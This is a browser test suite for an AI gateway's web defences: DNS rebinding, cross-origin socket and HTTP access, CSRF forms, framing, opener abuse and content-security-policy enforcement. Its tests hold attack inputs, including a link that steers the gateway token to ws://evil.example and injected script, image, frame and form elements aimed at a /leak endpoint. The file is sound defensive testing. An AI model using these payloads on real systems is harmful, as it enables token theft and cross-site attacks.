// Pages of somebody else, in a real browser, against the gateway. They have stolen its token already: so
// what keeps them out is not that they lack one. Each test shows that the same deed works where it may.

import assert from "node:assert/strict";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { after, before, describe, test } from "node:test";
import { browserPath, startBrowser } from "../support/browser.mjs";
import { Client } from "../support/client.mjs";
import { ask, include, introduce, submitForm } from "../support/deeds.mjs";
import { Stranger } from "../support/stranger.mjs";
import { eventually, PATIENCE_MS } from "../support/waiting.mjs";
import { world } from "../support/world.mjs";

const NO_BROWSER = "no chromium (install it, for the attacks of web pages)";

/** Our own, in place of the Control UI: as trusting as a page can be. */
const OWN_PAGE = `<!doctype html><html><head><title>own</title><script src="./own.js"></script></head>
<body><p id="place">own</p></body></html>`;
const OWN_SCRIPT = `
globalThis.isOwn = true;
globalThis.violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  globalThis.violations.push([event.effectiveDirective, event.blockedURI]);
});
globalThis.gatewayUrl = new URLSearchParams(location.search).get("gatewayUrl") ?? "ws://" + location.host;
`;

const options = { skip: browserPath === undefined && NO_BROWSER, timeout: 2 * PATIENCE_MS };

describe("a web page", options, () => {
  const { gateway } = world;
  const bearer = { authorization: `Bearer ${gateway.token}` };
  let stranger;
  let browser;
  let client;

  before(async () => {
    const root = join(gateway.folder, "own-ui");
    mkdirSync(root);
    writeFileSync(join(root, "index.html"), OWN_PAGE);
    writeFileSync(join(root, "own.js"), OWN_SCRIPT);
    writeFileSync(join(root, "own.css"), "p { color: red; }");
    writeFileSync(join(root, "own.svg"), '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>');
    await gateway.command(["config", "set", "gateway.controlUi.root", root]);
    stranger = await Stranger.start();
    [browser, client] = await Promise.all([startBrowser(), Client.connect(gateway)]);
  });
  after(async () => {
    await browser?.close();
    stranger?.close();
    await client?.stop();
    await gateway.command(["config", "unset", "gateway.controlUi.root"]);
  });

  /** Does something in a page at `address`, which is `html` if that is given, whoever would serve it. */
  async function at(address, deed, html = undefined) {
    const page = await browser.newPage();
    page.setDefaultTimeout(PATIENCE_MS);
    try {
      if (html !== undefined) {
        await page.route(address, (route) => route.fulfill({ contentType: "text/html", body: html }));
      }
      await page.goto(address);
      return await deed(page);
    } finally {
      await page.close();
    }
  }

  /** What the gateway's conversations and hooks have been told, all in one text. */
  async function everythingSaid() {
    const { messages } = await client.request("chat.history", { sessionKey: "main" });
    const { sessions } = await client.request("sessions.list", {});
    return JSON.stringify([messages, sessions]);
  }

  /** Runs `deeds` while the gateway lists the stranger's pages as its own. */
  async function allowed(deeds) {
    const origins = JSON.stringify([stranger.origin]);
    await gateway.command(["config", "set", "gateway.controlUi.allowedOrigins", origins]);
    try {
      return await deeds();
    } finally {
      await gateway.command(["config", "unset", "gateway.controlUi.allowedOrigins"]);
    }
  }

  test("whose own name leads to the gateway gets nothing from it (S3)", async () => {
    const deeds = async (page) => {
      const { origin } = new URL(page.url());
      const asked = [
        { url: `${origin}/` },
        { url: `${origin}/healthz` },
        { url: `${origin}/own.js` },
        { url: `${origin}/v1/models`, headers: bearer },
        {
          url: `${origin}/tools/invoke`,
          method: "POST",
          headers: { ...bearer, "content-type": "application/json" },
          body: JSON.stringify({ tool: "sessions_list", args: {} }),
        },
      ];
      const statuses = [];
      for (const request of asked) {
        statuses.push((await page.evaluate(ask, request)).status);
      }
      const socket = { url: origin.replace("http", "ws"), token: gateway.token };
      return { statuses, socket: await page.evaluate(introduce, socket) };
    };
    const blank = "<!doctype html><title>rebound</title>";

    const own = await at(`${gateway.httpUrl}/blank`, deeds, blank);
    const rebound = await at(`http://rebound.example:${gateway.port}/blank`, deeds, blank);

    assert.deepEqual(own.statuses, [200, 200, 200, 200, 200]);
    assert.equal(own.socket.answer, "hello-ok");
    assert.deepEqual(rebound.statuses, [421, 421, 421, 421, 421]);
    assert.deepEqual(rebound.socket, { isOpened: false, code: 1006 });
  });

  test("of another site does not become a client, whatever it calls itself (S4)", async () => {
    const deeds = async (page) => {
      const socket = { url: gateway.url, token: gateway.token };
      return [
        await page.evaluate(introduce, socket),
        await page.evaluate(introduce, { ...socket, id: "openclaw-control-ui", mode: "webchat" }),
        await page.evaluate(introduce, { ...socket, id: "cli", mode: "cli" }),
      ];
    };
    const attempt = () => at(`${stranger.origin}/`, deeds);
    const refused = { isOpened: true, answer: "CONTROL_UI_ORIGIN_NOT_ALLOWED", code: 1008 };

    assert.deepEqual(await attempt(), [refused, refused, refused]);
    const [backend] = await allowed(attempt);
    assert.equal(backend.answer, "hello-ok");
  });

  test("of another site reads nothing over HTTP, and changes nothing (S4)", async () => {
    const mark = "said by a strange page";
    const body = JSON.stringify({ tool: "sessions_send", args: { sessionKey: "main", message: mark } });
    const question = { model: "openclaw", messages: [{ role: "user", content: mark }] };
    const deeds = async (page) => {
      const answers = [];
      page.on("response", (answer) => answers.push(answer.status()));
      const ends = [];
      for (const request of [
        { url: "/tools/invoke", method: "POST", headers: bearer, body },
        { url: "/v1/chat/completions", method: "POST", headers: bearer, body: JSON.stringify(question) },
        { url: "/v1/models", headers: bearer },
        { url: "/healthz" },
        { url: "/tools/invoke", method: "POST", mode: "no-cors", body },
        { url: "/hooks/wake", method: "POST", mode: "no-cors", body: JSON.stringify({ text: mark }) },
        { url: "/healthz", mode: "no-cors" },
        { url: "/own.js", mode: "no-cors" },
      ]) {
        const whole = { ...request, url: gateway.httpUrl + request.url };
        const { status, failure } = await page.evaluate(ask, whole);
        ends.push(failure ?? status);
      }
      return { ends, answers };
    };

    const strange = await at(`${stranger.origin}/`, deeds);
    assert.equal((await everythingSaid()).includes(mark), false);
    const own = await at(`${gateway.httpUrl}/`, deeds);

    assert.deepEqual(strange.ends, Array(8).fill("TypeError"));
    assert.equal(strange.answers.includes(200), false, `${strange.answers}`);
    assert.deepEqual(own.ends.slice(0, 4), [200, 200, 200, 200]);
    assert.deepEqual(own.ends.slice(6), [200, 200]);
    assert.equal((await everythingSaid()).includes(mark), true);
  });

  test("of another site has its forms refused before they are read (S4)", async () => {
    const json = JSON.stringify({ tool: "sessions_list", args: {} });
    const sent = [];
    for (const enctype of ["text/plain", "multipart/form-data", "application/x-www-form-urlencoded"]) {
      for (const path of ["/tools/invoke", "/v1/chat/completions", "/v1/responses", "/hooks/wake", "/"]) {
        sent.push({ url: gateway.httpUrl + path, enctype, json });
      }
    }
    const deeds = async (page) => {
      const statuses = [];
      for (const form of sent) {
        const answered = page.waitForResponse((answer) => answer.url() === form.url);
        await page.evaluate(submitForm, form);
        statuses.push((await answered).status());
      }
      return statuses;
    };
    const blank = "<!doctype html><body></body>";

    const strange = await at(stranger.show("/forms", blank), deeds);
    const own = await at(`${gateway.httpUrl}/blank`, deeds, blank);

    assert.deepEqual(strange, Array(sent.length).fill(403));
    assert.equal(own.includes(403), false, `${own}`); // refused for other reasons
  });

  test("without an origin gets no more than one of somebody else (S4)", async () => {
    const socket = { url: gateway.url, token: gateway.token };
    const request = { url: `${gateway.httpUrl}/v1/models`, headers: bearer };
    const deeds = async (frame) => ({
      origin: await frame.evaluate(() => globalThis.origin),
      socket: (await frame.evaluate(introduce, socket)).answer,
      http: await frame.evaluate(ask, request),
    });
    const refused = {
      origin: "null",
      socket: "CONTROL_UI_ORIGIN_NOT_ALLOWED",
      http: { failure: "TypeError" },
    };
    const sandboxed = (rights) => `<!doctype html><iframe sandbox="${rights}" srcdoc="<p>in</p>"></iframe>`;
    const inFrame = (page) => deeds(page.frames()[1]);
    const file = join(gateway.folder, "harmful.html");
    writeFileSync(file, "<!doctype html><title>file</title>");

    const fromSandbox = await at(stranger.show("/sandbox", sandboxed("allow-scripts")), inFrame);
    const fromFile = await at(pathToFileURL(file).href, deeds);
    const fromData = await at("data:text/html,<title>data</title>", deeds);
    const notSandboxed = sandboxed("allow-scripts allow-same-origin");
    const own = await at(`${gateway.httpUrl}/blank`, inFrame, notSandboxed);

    assert.deepEqual([fromSandbox, fromData], [refused, refused]);
    assert.deepEqual({ ...fromFile, origin: "null" }, refused);
    assert.equal(own.socket, "hello-ok");
    assert.equal(own.http.status, 200);
  });

  test("of another site cannot frame it, include it, or hold on to its window (S11)", async () => {
    const framed = (url) => `<!doctype html><body><iframe src="${url}"></iframe>`;
    /** How the frame ended: with an error's name, or the address that it shows. */
    const frameOf = async (page) => {
      let failure;
      page.on("requestfailed", (request) => (failure = request.failure().errorText));
      await page.reload();
      return eventually("frame", () => failure ?? (page.frames()[1]?.url() || false));
    };
    const included = async (page) => {
      const ends = [];
      for (const [tag, name] of [["script", "own.js"], ["img", "own.svg"], ["link", "own.css"]]) {
        ends.push(await page.evaluate(include, { tag, url: `${gateway.httpUrl}/${name}` }));
      }
      return ends;
    };
    /** @param isHeld whether the window stays in the hands of who opened it; else that is waited for */
    const openedBy = (url, isHeld) => async (page) => {
      const opening = page.waitForEvent("popup");
      await page.evaluate((address) => (globalThis.opened = open(address)), url);
      const popup = await opening;
      await popup.waitForLoadState("load");
      if (!isHeld) {
        await eventually("letting go", () => page.evaluate(() => globalThis.opened.closed));
      }
      const isTold = await page.evaluate(() => {
        globalThis.opened.postMessage({ gatewayUrl: "ws://evil.example" }, "*");
        return !globalThis.opened.closed;
      });
      return { isTold, hasOpener: await popup.evaluate(() => globalThis.opener !== null) };
    };
    const home = `${stranger.origin}/`;

    const ofUs = stranger.show("/frame", framed(gateway.httpUrl));
    assert.equal(await at(ofUs, frameOf), "net::ERR_BLOCKED_BY_RESPONSE");
    assert.equal(await at(stranger.show("/frame-own", framed(home)), frameOf), home);
    assert.deepEqual(await at(home, included), ["refused", "refused", "refused"]);
    assert.deepEqual(await at(`${gateway.httpUrl}/`, included), ["loaded", "loaded", "loaded"]);
    assert.deepEqual(await at(home, openedBy(gateway.httpUrl, false)), { isTold: false, hasOpener: false });
    assert.deepEqual(await at(home, openedBy(`${home}other`, true)), { isTold: true, hasOpener: true });
  });

  test("of our own sends its token nowhere else, whatever the link says (S11)", async () => {
    const signIn = async (page) => {
      const url = await page.evaluate(() => globalThis.gatewayUrl);
      const end = await page.evaluate(introduce, { url, token: gateway.token });
      return { end, violations: await page.evaluate(() => globalThis.violations) };
    };
    const elsewhere = `ws://evil.example:${stranger.port}/`;
    const link = `${gateway.httpUrl}/?gatewayUrl=${encodeURIComponent(elsewhere)}#token=x`;

    const straight = await at(gateway.httpUrl, signIn);
    const misled = await at(link, signIn);

    assert.equal(straight.end.answer, "hello-ok");
    assert.deepEqual(straight.violations, []);
    assert.equal(misled.end.isOpened ?? false, false);
    assert.deepEqual(misled.violations, [["connect-src", elsewhere]]);
    assert.equal(stranger.told.some((text) => text.includes("Upgrade: websocket")), false);
  });

  test("of our own runs no script that was put into it, and leaks to nobody (S11)", async () => {
    const seen = await at(gateway.httpUrl, async (page) => {
      const target = `${stranger.origin}/leak`;
      await page.evaluate((url) => {
        const place = document.getElementById("place");
        const script = document.createElement("script");
        script.textContent = "globalThis.isInjected = true";
        place.append(script);
        place.insertAdjacentHTML(
          "beforeend",
          `<img src="x:y" onerror="globalThis.isInjected = true"><img src="${url}?img">
           <iframe src="${url}?frame"></iframe><base href="${url}/">
           <form action="${url}?form" method="post"><button id="send">send</button></form>`,
        );
        document.getElementById("send").click();
        return Promise.allSettled([fetch(`${url}?fetch`), fetch(`${url}?quiet`, { mode: "no-cors" })]);
      }, target);
      const all = () => page.evaluate(() => globalThis.violations.length >= 9);
      await eventually("violations", all);
      return page.evaluate(() => ({
        isOwn: globalThis.isOwn,
        isInjected: globalThis.isInjected === true,
        base: document.baseURI,
        violations: globalThis.violations.map(([directive]) => directive).sort(),
      }));
    });

    assert.equal(seen.isOwn, true);
    assert.equal(seen.isInjected, false);
    assert.equal(seen.base, `${gateway.httpUrl}/`);
    assert.deepEqual(seen.violations, [
      ...["base-uri", "connect-src", "connect-src", "form-action", "frame-src"],
      ...["img-src", "img-src", "script-src-attr", "script-src-elem"],
    ]);
    assert.equal(stranger.told.some((text) => text.includes("/leak")), false);
  });
});
